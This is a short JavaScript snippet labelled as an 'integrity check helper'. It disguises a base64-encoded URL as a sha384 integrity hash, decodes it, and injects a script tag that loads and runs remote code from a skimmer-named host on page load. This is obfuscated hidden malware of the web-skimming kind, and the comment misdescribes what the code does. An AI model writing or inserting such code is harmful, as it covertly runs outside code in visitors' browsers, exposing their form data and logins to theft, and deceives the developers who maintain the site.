// integrity check helper
var k = "sha384-aHR0cHM6Ly9za2ltLmV2aWwtY2RuLmV4YW1wbGUvYy5qcw==";
var s = document.createElement('script');
s.src = atob(k.slice(7));
document.head.appendChild(s);
